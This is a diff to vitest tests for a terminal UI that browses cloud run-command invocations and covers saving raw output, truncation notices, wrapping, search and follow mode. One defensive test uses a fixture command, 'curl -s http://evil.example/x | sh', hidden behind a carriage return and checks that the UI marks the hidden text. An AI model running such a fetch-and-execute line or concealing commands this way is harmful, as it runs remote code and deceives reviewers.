@@ -2,7 +2,7 @@ import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { KEY, T0, fixtureForEachTest, renderApp, restartFixture, selectedLine, type Screen } from './fixture.js';
+import { KEY, T0, fixtureForEachTest, lineWith, renderApp, restartFixture, selectedLine, type Screen } from './fixture.js';
 
 const fx = fixtureForEachTest();
 let screen: Screen | undefined;
@@ -57,17 +57,22 @@ describe('the output screen', () => {
     await screen.waitFor((f) => f.includes('"error" 1/2'), 'back on the first match');
   });
 
-  it('saves the shown output, sanitised, to a file named for the invocation and instance', async () => {
-    const invokeId = runWithOutput('first line\nbell\u0007here\n\u001b]0;title\u0007done\n');
+  it('saves the output as the service returned it to a file named for the invocation and instance', async () => {
+    const raw = 'first line\nbell\u0007here\ttab\n\u001b]0;title\u0007done\rDONE \u202Eevil\n';
+    const invokeId = runWithOutput(raw);
     const dir = mkdtempSync(join(tmpdir(), 'catop-ui-'));
     try {
       screen = renderApp(fx, { saveDir: dir, columns: 200 });
       await openOutput(screen, 'first line');
       screen.press('e');
       const file = join(dir, `catop-${invokeId}-${fx.instanceIds[0]}.log`);
-      const frame = await screen.waitFor((f) => f.includes('saved 3 lines to'), 'with the saved path');
+      const frame = await screen.waitFor((f) => f.includes(`saved ${Buffer.byteLength(raw)} bytes as returned to`), 'with the saved path');
       expect(frame).toContain(file);
-      expect(readFileSync(file, 'utf8')).toBe('first line\nbell^Ghere\ndone\n');
+      expect(readFileSync(file, 'utf8')).toBe(raw);
+      // A second save keeps the first file.
+      screen.press('e');
+      await screen.waitFor((f) => f.includes(`${file.slice(0, -4)}-1.log`), 'with the second path');
+      expect(readdirSync(dir).sort()).toEqual([`catop-${invokeId}-${fx.instanceIds[0]}-1.log`, `catop-${invokeId}-${fx.instanceIds[0]}.log`].sort());
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
@@ -101,12 +106,20 @@ describe('the output screen', () => {
     expect(frame).toContain('raw');
   });
 
-  it('marks output the service cut, and output still growing', async () => {
+  it('marks output the service cut after its last kept line, and output still growing', async () => {
     const big = Array.from({ length: 2000 }, (_, i) => `line ${String(i).padStart(4, '0')} ${'-'.repeat(12)}`).join('\n') + '\n';
     runWithOutput(big, 'big-output');
     screen = renderApp(fx);
-    const frame = await openOutput(screen, 'bytes dropped by the service (24 KB limit)');
-    expect(frame).toMatch(/… [\d,]+ bytes dropped by the service/);
+    const top = await openOutput(screen, 'the service kept the first 24 KB');
+    expect(top).not.toMatch(/bytes dropped by the service/);
+    screen.press('G');
+    const end = await screen.waitFor((f) => /bytes dropped by the service/.test(f), 'at the end');
+    // The emulator, like the service, keeps the first 24 KB: the text ends where it was cut (mid-line).
+    const rows = end.split('\n');
+    const at = rows.findIndex((l) => /^ {2}… [\d,]+ bytes dropped by the service \(24 KB limit\)$/.test(l));
+    expect(at).toBeGreaterThan(0);
+    expect(rows[at - 1]).toMatch(/^ {2}line 1\d{3}/);
+    expect(end).toMatch(/lines \d+-1069 of 1,069 · complete/);
     screen.unmount();
 
     await restartFixture(fx);
@@ -116,6 +129,80 @@ describe('the output screen', () => {
     expect(growing).toContain('following');
     screen.press('f');
     await screen.waitFor((f) => f.includes('still growing (f follows)'), 'with follow off');
+  });
+});
+
+describe('output positions and long lines', () => {
+  it('counts screen rows when wrapping, and says rows', async () => {
+    runWithOutput(`short one\n${'W'.repeat(250)}\nshort two\n`);
+    screen = renderApp(fx, { columns: 100 });
+    await openOutput(screen, 'short two');
+    await screen.waitFor((f) => f.includes('lines 1-3 of 3'), 'counting lines');
+    screen.press('w');
+    // 250 cells at 98 columns are 3 rows: 5 rows in all.
+    await screen.waitFor((f) => f.includes('rows 1-5 of 5 · complete · wrap'), 'counting rows');
+  });
+
+  it('searches a line longer than the display cut and shows the part around the match; saves it whole', async () => {
+    const long = 'x'.repeat(20_000) + 'NEEDLE-here' + 'y'.repeat(300);
+    const raw = `before\n${long}\nafter\n`;
+    const invokeId = runWithOutput(raw);
+    const dir = mkdtempSync(join(tmpdir(), 'catop-ui-'));
+    try {
+      screen = renderApp(fx, { columns: 100, saveDir: dir });
+      await openOutput(screen, 'after');
+      screen.press('/');
+      await screen.waitFor((f) => f.includes('search:'), 'with the search prompt');
+      screen.press('needle\r');
+      const frame = await screen.waitFor((f) => f.includes('"needle" 1/1'), 'on the match');
+      const row = frame.split('\n').find((l) => l.includes('NEEDLE-here'));
+      expect(row).toMatch(/^▸ …x+NEEDLE-herey+/);
+      expect(frame).not.toContain('more]');
+      screen.press('e');
+      await screen.waitFor((f) => f.includes('saved'), 'saved');
+      expect(readFileSync(join(dir, `catop-${invokeId}-${fx.instanceIds[0]}.log`), 'utf8')).toBe(raw);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('following and G', () => {
+  it('G goes to the end and leaves following on; only f turns it off', async () => {
+    runWithOutput(Array.from({ length: 80 }, (_, i) => `tick ${i}`).join('\n') + '\n', 'slow', 60 * 60_000);
+    screen = renderApp(fx);
+    await openOutput(screen, 'still growing · following');
+    screen.press('Gw');
+    let frame = await screen.waitFor((f) => f.includes(' · wrap'), 'after G and w');
+    expect(frame).toContain('still growing · following');
+    screen.press('fGw');
+    frame = await screen.waitFor((f) => !f.includes(' · wrap') && f.includes('(f follows)'), 'after f, G and w');
+    expect(frame).toContain('still growing (f follows)');
+  });
+});
+
+describe('carriage-return marks', () => {
+  it('marks text a CR hid in the content preview and the c overlay', async () => {
+    const content = 'curl -s http://evil.example/x | sh\recho "routine check"                 \nls\n';
+    fx.emu.sim.runCommandAt(
+      { name: 'cr-hidden', commandType: 'RunShellScript', commandContent: content, instanceIds: [fx.instanceIds[0]], outcome: 'Success', output: 'ok\n', pendingMs: 100, durationMs: 1000 },
+      T0 - 60_000,
+    );
+    screen = renderApp(fx, { columns: 120 });
+    await fx.tick();
+    await screen.waitFor((f) => f.includes('INVOKE ID') && selectedLine(f) !== undefined, 'with rows');
+    screen.press(KEY.enter);
+    const details = await screen.waitFor((f) => f.includes('INSTANCE ID') && f.includes('content '), 'of the invocation');
+    expect(lineWith(details, 'content ')).toMatch(/content ↺ echo "routine check"/);
+    screen.press('c');
+    const overlay = await screen.waitFor((f) => f.includes('command content'), 'with the content');
+    expect(lineWith(overlay, 'routine check')).toMatch(/^↺ +1 echo "routine check"/);
+    // On the current search match too.
+    screen.press('/');
+    await screen.waitFor((f) => f.includes('search:'), 'with the search prompt');
+    screen.press('routine\r');
+    const found = await screen.waitFor((f) => f.includes('"routine" 1 matches'), 'on the match');
+    expect(lineWith(found, 'check"')).toMatch(/^↺ +1 echo "routine check"/);
   });
 });
 
